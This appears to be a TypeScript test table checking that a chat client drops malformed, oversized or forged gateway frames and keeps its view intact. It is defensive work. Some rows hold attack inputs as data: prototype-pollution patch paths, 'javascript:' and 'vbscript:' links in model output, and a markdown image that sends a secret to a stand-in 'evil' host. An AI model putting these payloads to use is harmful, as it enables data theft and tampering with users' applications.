/** Frames that a gateway brings to the real client, and events that its log holds. */
import { strict as assert } from "node:assert"
import { proof, type Row } from "../row.ts"
import type { World } from "../world.ts"

const nested = (depth: number, open: string, close: string): string => `${open.repeat(depth)}1${close.repeat(depth)}`
const event = (type: string, more: object = {}) => ({ type, run: "r", ...more })
/** A frame that the gateway brings to a real client which shows a running run at offset 3. */
const brought = (
  id: string,
  input: string,
  answer: string,
  text: string | ((next: (events: readonly object[], more?: object) => string) => string),
  then: Parameters<World["client"]>[1]
): Row => ({
  id,
  surface: "view",
  input,
  answer,
  check: ({ client }) => client(typeof text === "function" ? text : () => text, then)
})

export const clientRows: readonly Row[] = [
  ...(
    [
      [
        "B31",
        "offset 0, -1, 1.5, as text, beyond 2^53, Infinity",
        ["0", "-1", "1.5", '"4"', "9007199254740993", "1e400"].map(
          (offset) => (next: (events: readonly object[]) => string) =>
            next([]).replace('"offset":4', `"offset":${offset}`)
        )
      ],
      [
        "B01",
        "what is no frame: empty, half, an array, null",
        ["", "{", "[]", "null", '"x"', "\u0000"].map((text) => () => text)
      ],
      [
        "N30",
        "a frame of another version",
        [(next: (events: readonly object[], more?: object) => string) => next([], { v: 2 })]
      ],
      [
        "N31",
        "a frame with an empty id, or one of 129 characters",
        ["", "x".repeat(129)].map(
          (id) => (next: (events: readonly object[], more?: object) => string) => next([], { id })
        )
      ],
      ["N36", "an event without a type", [(next: (events: readonly object[]) => string) => next([{ run: "r" }])]],
      ["B11", "a frame of 100,000 levels", [() => nested(100_000, '{"v":', "}")]],
      [
        "B13",
        "a frame larger than an entry may be",
        [
          (next: (events: readonly object[]) => string) =>
            next([event("text.delta", { part: "p", text: "x".repeat(256 * 1024) })])
        ]
      ]
    ] as const
  ).flatMap(([id, input, texts]) => [
    {
      id,
      surface: "view",
      input,
      answer: "dropped and counted; the log is asked, and the view is whole",
      check: async (world: World) => {
        for (const text of texts)
          await world.client(text as never, ({ after, before, thread }) => {
            assert.equal(after, before)
            assert.equal(thread.counters.badFrames, 1)
          })
      }
    } satisfies Row
  ]),
  brought(
    "B32",
    "an offset at or below the newest",
    "dropped as a copy",
    (next) => next([], { offset: 2, id: "e2", prev: "e1" }),
    ({ after, before, thread }) => {
      assert.equal(after, before)
      assert.equal(thread.counters.duplicates, 1)
    }
  ),
  brought(
    "B34",
    "an offset 10^9 ahead",
    "not held; one bounded look at the log, then it is not believed",
    (next) => next([], { offset: 1_000_000_003, prev: "x" }),
    ({ after, before, calls }) => {
      assert.equal(after, before)
      assert.ok(calls("entries") <= 3, `${calls("entries")} requests`)
    }
  ),
  brought(
    "B34",
    "a head frame 10^9 ahead",
    "one bounded look at the log, then it is not believed",
    (next) => next([], { offset: 1_000_000_003, events: undefined, prev: undefined, at: undefined }),
    ({ after, before, calls }) => {
      assert.equal(after, before)
      assert.ok(calls("entries") <= 3)
    }
  ),
  brought(
    "B35",
    "the newest offset with another id: two histories",
    "never merged; the log is asked, which decides",
    (next) => next([event("text.delta", { part: "p-r", text: "FORGED" })], { offset: 3, id: "other" }),
    ({ after, before, calls }) => {
      assert.equal(after, before)
      assert.ok(calls("entries") > 0)
    }
  ),
  brought(
    "B35",
    "the next offset after another entry than ours (`prev`)",
    "not applied; the log is asked",
    (next) => next([event("text.delta", { part: "p-r", text: "FORGED" })], { prev: "other" }),
    ({ after, before, calls }) => {
      assert.equal(after, before)
      assert.ok(calls("entries") > 0)
    }
  ),
  brought(
    "N37",
    "the next offset of another log",
    "not applied; the log is asked",
    (next) => next([event("text.delta", { part: "p-r", text: "FORGED" })], { logId: "another" }),
    ({ after, before }) => assert.equal(after, before)
  ),
  brought(
    "N38",
    "the frame of another thread",
    "not applied to this one",
    (next) => next([event("text.delta", { part: "p-r", text: "FORGED" })], { thread: "u" }),
    ({ after, before }) => assert.equal(after, before)
  ),
  {
    id: "B37",
    surface: "view",
    input: "an event of a run after its end",
    answer: "counted in `dropped`, not shown",
    check: async ({ folded }) =>
      folded(
        [event("run.finished", { outcome: { type: "completed" } }), event("text.delta", { part: "p-r", text: "late" })],
        (view) => {
          assert.equal(view.dropped, 1)
          assert.doesNotMatch(JSON.stringify(view), /late/)
        }
      )
  },
  {
    id: "B38",
    surface: "view",
    input: "a second end",
    answer: "counted in `dropped`; the first holds",
    check: async ({ folded }) =>
      folded(
        [
          event("run.finished", { outcome: { type: "completed" } }),
          event("run.finished", { outcome: { type: "cancelled" } })
        ],
        (view) => {
          assert.equal(view.dropped, 1)
          assert.equal(view.runs[0]?.outcome?.type, "completed")
        }
      )
  },
  {
    id: "B40",
    surface: "view",
    input: "a group's message that another client sent (`fromUserId`)",
    answer: "dropped",
    check: proof(
      "test/adapters/gateways/azure-client.test.ts",
      "drops what another client published into the group (B40)"
    )
  },
  {
    id: "B41",
    surface: "view",
    input: "an event of an unknown type",
    answer: "the offset advances and the event is handed on",
    check: proof(
      "test/client/thread.test.ts",
      "keeps an event of an unknown type: the offset advances and it is handed on"
    )
  },
  {
    id: "B43",
    surface: "view",
    input: "a link `javascript:`, `data:text/html`, `vbscript:` in what a model wrote",
    answer: "text; our pages link only http, https and mailto, and nothing of ours renders HTML",
    check: proof("test/e2e/page.test.ts", "never runs, loads or follows what a document carries")
  },
  {
    id: "B44",
    surface: "view",
    input: "an image whose address carries a secret out: `![x](https://evil/?q=secret)`",
    answer: "text; nothing is loaded",
    check: proof("test/e2e/page.test.ts", "never runs, loads or follows what a document carries")
  },
  {
    id: "B46",
    surface: "view",
    input: "a patch to `/__proto__/x`, `/constructor/prototype/x`",
    answer: "the whole patch refused, the document as it was, counted",
    check: async ({ folded }) => {
      for (const path of ["/__proto__/admin", "/constructor/prototype/admin", "/a/__proto__/admin"])
        await folded(
          [
            event("state.snapshot", { doc: "d", value: { a: {} } }),
            event("state.delta", {
              doc: "d",
              patch: [
                { op: "add", path: "/b", value: 1 },
                { op: "add", path, value: true }
              ]
            })
          ],
          (view) => {
            assert.deepEqual(view.state["d"], { a: {} })
            assert.equal(view.dropped, 1)
          }
        )
    }
  },
  {
    id: "B47",
    surface: "view",
    input: "a patch to a missing path, to index -1, 01, 1e3, or far beyond the end",
    answer: "refused whole, the document as it was, counted",
    check: async ({ folded }) => {
      for (const path of ["/x/y", "/l/-1", "/l/01", "/l/1e3", "/l/999999999", "/l/length", "/l/-/0", "l", "/~2"])
        await folded(
          [
            event("state.snapshot", { doc: "d", value: { l: [1] } }),
            event("state.delta", { doc: "d", patch: [{ op: "add", path, value: 1 }] })
          ],
          (view) => {
            assert.deepEqual([path, view.state["d"], view.dropped], [path, { l: [1] }, 1])
          }
        )
    }
  },
  {
    id: "B49",
    surface: "view",
    input: "a delta of a part that never began, or has ended",
    answer: "counted in `dropped`, not shown",
    check: async ({ folded }) =>
      folded(
        [
          event("text.delta", { part: "none", text: "ghost" }),
          event("text.finished", { part: "p-r" }),
          event("text.delta", { part: "p-r", text: "ghost" })
        ],
        (view) => {
          assert.equal(view.dropped, 2)
          assert.doesNotMatch(JSON.stringify(view), /ghost/)
        }
      )
  },
  {
    id: "B50",
    surface: "view",
    input: "a surrogate pair that is split between two deltas",
    answer: "joined",
    check: proof("test/client/thread.test.ts", "joins a surrogate pair that was split between two deltas")
  },
  {
    id: "N39",
    surface: "view",
    input: "a run called `__proto__`, a document called `constructor`",
    answer: "names like others",
    check: async ({ folded }) =>
      folded(
        [
          { type: "run.accepted", run: "__proto__", agent: "a" },
          event("state.snapshot", { doc: "constructor", value: { admin: true } }),
          event("state.snapshot", { doc: "__proto__", value: { admin: true } })
        ],
        (view) => {
          assert.equal(view.runs.at(-1)?.id, "__proto__")
          assert.equal(Object.hasOwn(view.state, "constructor"), true)
        }
      )
  },
  {
    id: "N40",
    surface: "view",
    input: "an answer of the backend that is no JSON, or no page",
    answer: "the client says so and asks again; the view stays",
    check: proof("test/client/thread.test.ts", "explains an endpoint that is none, and stays quiet about it")
  }
]
